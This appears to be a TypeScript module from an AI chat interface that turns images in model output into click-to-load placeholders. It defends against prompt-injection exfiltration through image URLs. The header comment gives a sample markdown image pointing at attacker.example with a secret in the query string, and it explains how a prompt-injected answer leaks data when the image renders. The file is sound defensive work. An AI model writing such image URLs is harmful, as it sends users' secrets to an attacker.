// Images in model output. An image URL is a request the model chose, made the moment the image
// renders: a prompt-injected answer can write `![](https://attacker.example/?q=<secret>)` and the
// page sends the secret. So by default nothing is fetched; each image is a placeholder link the
// user clicks to load it. The `images` option loads images from listed origins (or all) directly.
//
// Images are built here, with DOM APIs, after the sanitizer has run: the sanitizer never lets an
// <img> through, so model-written markup cannot make one in any shape. The renderer writes each
// image as a link of class IMAGE_PLACEHOLDER, the one class of links the sanitizer keeps; the
// element hands clicks in the log to `loadImageOnClick`; the look is in styles.ts.
//
// Only http(s) images load. `data:` images never do, under any policy: they leak nothing, but
// `data:` is refused everywhere else in the chat (links, sources) and one rule is easier to trust
// than an exception for some media types; such an image is shown as its alt text.
import { safeHref } from '../link-policy.js';

/** The class of the links the renderer writes for images (and the sanitizer keeps). */
export const IMAGE_PLACEHOLDER = 'image-placeholder';

/** The strings of images; the element passes its `labels`. */
export interface ImageLabels {
  loadImage: string;
  /** The tooltip of an image placeholder. */
  loadImageFrom: (host: string) => string;
  image: string;
}

export const englishImageLabels: ImageLabels = {
  loadImage: 'load image',
  loadImageFrom: (host) => `Load the image from ${host}`,
  image: 'Image',
};

/** URLs the user chose to load, so re-rendering the same answer (the streamed tail) keeps them loaded. */
const approved = new Set<string>();

/** The absolute http(s) URL an image may be fetched from, or undefined (javascript:, data:, blob:, ...). */
export function imageSource(url: string | null | undefined): string | undefined {
  const href = url ? safeHref(url) : undefined;
  if (href === undefined) return undefined;
  try {
    const parsed = new URL(href, document.baseURI);
    return parsed.protocol === 'https:' || parsed.protocol === 'http:' ? parsed.href : undefined;
  } catch {
    return undefined;
  }
}

function originOf(url: string): string | undefined {
  try {
    const parsed = new URL(url);
    return parsed.protocol === 'https:' || parsed.protocol === 'http:' ? parsed.origin : undefined;
  } catch {
    return undefined;
  }
}

/**
 * Whether the `images` option lets `src` (an `imageSource`) load without a click: `*` allows all,
 * `none` or empty none, otherwise a space-separated list of origins (`https://cdn.example.com`).
 */
export function imageAllowed(src: string, policy = 'none'): boolean {
  const rule = policy.trim();
  if (rule === '*') return true;
  if (!rule || rule === 'none') return false;
  const origin = originOf(src);
  return !!origin && rule.split(/\s+/).some((entry) => originOf(entry) === origin);
}

function imageElement(src: string, alt: string, title: string | undefined): HTMLImageElement {
  const img = document.createElement('img');
  img.className = 'markdown-image';
  img.setAttribute('part', 'image');
  img.alt = alt;
  if (title) img.title = title;
  // Before src, so the lazy loading applies to the first request.
  img.loading = 'lazy';
  img.decoding = 'async';
  img.referrerPolicy = 'no-referrer';
  img.src = src;
  return img;
}

/**
 * Turns the image links of a sanitized fragment (`a.image-placeholder`, from the renderer) into
 * placeholders, or into images when an earlier click or the policy allows their URL. The policy
 * applies only in `finished` blocks: the block being streamed is re-rendered on every update, and
 * its last URL may still be cut short.
 */
export function showImages(
  root: DocumentFragment,
  policy: string | undefined,
  finished: boolean,
  labels: ImageLabels = englishImageLabels,
): void {
  for (const anchor of Array.from(root.querySelectorAll<HTMLAnchorElement>(`a.${IMAGE_PLACEHOLDER}`))) {
    const alt = anchor.textContent ?? '';
    const title = anchor.getAttribute('title') ?? undefined;
    const src = imageSource(anchor.getAttribute('href'));
    if (!src) {
      // The sanitizer dropped the URL (or it is not http): the alt text is all there is to show.
      const text = document.createElement('span');
      text.className = 'image-blocked';
      text.textContent = `🖼 ${alt || labels.image}`;
      anchor.replaceWith(text);
      continue;
    }
    if (approved.has(src) || (finished && imageAllowed(src, policy))) {
      anchor.replaceWith(imageElement(src, alt, title));
      continue;
    }
    anchor.href = src;
    anchor.dataset.src = src;
    anchor.dataset.alt = alt;
    if (title) anchor.dataset.title = title;
    anchor.setAttribute('part', 'image-placeholder');
    anchor.title = labels.loadImageFrom(new URL(src).host);
    anchor.textContent = `🖼 ${alt || labels.image} — ${labels.loadImage}`;
  }
}

/**
 * Loads the image behind a placeholder link (the element calls it when one is clicked): replaces
 * the link with the image. The URL is checked again, since the link sits in a live DOM.
 */
export function loadImagePlaceholder(anchor: HTMLAnchorElement): void {
  const src = imageSource(anchor.dataset.src);
  if (!src || !anchor.classList.contains(IMAGE_PLACEHOLDER)) return;
  approved.add(src);
  const img = imageElement(src, anchor.dataset.alt ?? '', anchor.dataset.title);
  const root = anchor.getRootNode() as Document | ShadowRoot;
  const focused = root.activeElement === anchor;
  anchor.replaceWith(img);
  if (focused) {
    // Keyboard users stay where they were instead of falling back to the top of the page.
    img.tabIndex = -1;
    img.focus();
  }
}

/**
 * Handles a click in the log if it was a plain click on an image placeholder: loads the image in
 * place and says so. Modified clicks open it in a tab like any link.
 */
export function loadImageOnClick(event: MouseEvent): boolean {
  const placeholder = (event.target as Element | null)?.closest?.(`a.${IMAGE_PLACEHOLDER}`);
  if (!(placeholder instanceof HTMLAnchorElement)) return false;
  if (event.button !== 0 || event.metaKey || event.ctrlKey || event.shiftKey || event.altKey) return true;
  event.preventDefault();
  loadImagePlaceholder(placeholder);
  return true;
}
